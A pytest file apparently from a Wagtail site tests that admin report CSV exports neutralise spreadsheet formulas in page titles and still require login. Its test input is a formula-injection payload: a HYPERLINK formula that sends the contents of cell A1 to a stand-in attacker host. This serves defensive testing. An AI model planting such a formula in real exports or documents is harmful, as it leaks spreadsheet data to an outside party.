"""Wagtail's own admin reports export CSV with the site's formula guard, at their usual URLs
and behind the same login."""

import csv

import pytest
from django.urls import reverse

from tests.home.factories import StandardPageFactory

FORMULA = '=HYPERLINK("https://pirate.example/?"&A1;"Cliquez")'


def export(client, url_name):
    response = client.get(reverse(url_name) + "?export=csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(body.splitlines()))


@pytest.mark.parametrize(
    "url_name", ["wagtailadmin_reports:aging_pages", "wagtailadmin_reports:site_history"]
)
def test_page_titles_in_report_exports_are_guarded(admin_client, home_page, url_name):
    page = StandardPageFactory(parent=home_page, title=FORMULA)
    page.save_revision(log_action=True).publish()
    cells = {cell for row in export(admin_client, url_name) for cell in row}
    assert f"'{FORMULA}" in cells
    assert FORMULA not in cells


def test_the_guarded_reports_still_need_admin_access(client, db):
    response = client.get(reverse("wagtailadmin_reports:site_history") + "?export=csv")
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("wagtailadmin_login"))
